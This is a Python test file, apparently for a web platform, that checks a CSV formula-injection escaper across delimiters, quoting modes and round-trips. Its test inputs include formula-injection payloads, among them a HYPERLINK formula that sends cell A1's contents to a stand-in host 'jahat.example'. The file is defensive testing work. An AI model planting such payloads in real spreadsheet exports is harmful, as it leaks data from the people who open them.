"""A cell of a text file is no formula, by whichever sign a spreadsheet splits it, and is read back as it was."""

from __future__ import annotations

import csv
import io
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mysapk_web.platform.rules.csv_injection import escape_formula, unescape_formula

MARKS = tuple("=+-@＝＋－＠")
HOSTILE = st.text(alphabet=st.sampled_from("=+-@＝＋－＠;,\t\r\n\"' \u00a0\u3000abc1"), max_size=30)


def split(line: str, delimiter: str, *, quotes: bool) -> list[list[str]]:
    quoting = csv.QUOTE_MINIMAL if quotes else csv.QUOTE_NONE
    return list(csv.reader(io.StringIO(line, newline=""), delimiter=delimiter, quoting=quoting))


def written(*cells: str) -> str:
    target = io.StringIO()
    csv.writer(target).writerow([escape_formula(cell) for cell in cells])
    return target.getvalue()


def runs_nothing(line: str) -> bool:
    """However the line is taken apart, with quotes or in spite of them, no cell begins with a mark."""
    return not any(
        cell.lstrip(' \u00a0\u3000\t\r\n"').startswith(MARKS)
        for delimiter in ",;\t"
        for quotes in (True, False)
        for row in split(line, delimiter, quotes=quotes)
        for cell in row
    )


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-2", "@SUM(A1)", "＝1", "＋1", "－1", "＠x", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1",
        'salah;=HYPERLINK("http://jahat.example/?"&A1;"buka")', "a;+1", "a; -1", 'a;"=1', "a;;=1", "a\t@x", "a\n=1", "a\r\n＝1",
        "a,=1", "a;\u00a0=1", ";=", ";", "=;=;=",
    ],
)  # fmt: skip
def test_no_part_of_a_cell_is_a_formula(text: str) -> None:
    assert runs_nothing(written("x", text, "y"))
    assert runs_nothing(written(text))
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ani Lestari",
        "a-b",
        "1+1",
        "ani@k1.example.go.id",
        "S.Pd.-M.Pd.",
        "17-08-1990",
        "a;b",
        "'kutip",
        "O'Neil; x",
        "dua=2",
    ],
)
def test_what_runs_nothing_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text
    assert unescape_formula(text) == text


@given(HOSTILE, HOSTILE, HOSTILE)
def test_whatever_the_cells_hold_nothing_runs(one: str, two: str, three: str) -> None:
    assert runs_nothing(written(one, two, three))


@given(st.one_of(HOSTILE, st.text()))
def test_a_cell_is_read_back_as_it_was(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("piece", ["\t", "; ", "'", '"', "=", ";=", " "])
def test_long_cells_take_no_time(piece: str) -> None:
    begun = time.perf_counter()
    unescape_formula(escape_formula(piece * 32_000 + "x"))
    assert time.perf_counter() - begun < 1
